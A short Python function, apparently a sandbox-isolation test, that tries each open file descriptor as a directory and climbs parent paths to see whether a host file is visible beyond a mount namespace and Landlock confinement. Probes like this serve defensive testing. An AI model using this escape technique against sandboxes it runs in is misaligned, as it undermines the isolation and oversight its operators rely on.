# Makes every directory that it has open its own, and looks for the host above.
# group: descriptors
# held: mount_namespace landlock
def attack(lure):
    here = os.open(".", os.O_RDONLY)
    try:
        for fd in range(256):
            try:
                os.fchdir(fd)
            except OSError:
                continue
            if os.path.exists("../" * 60 + lure["file"]):
                return f"sees the host from descriptor {fd}"
    finally:
        os.fchdir(here)
        os.close(here)
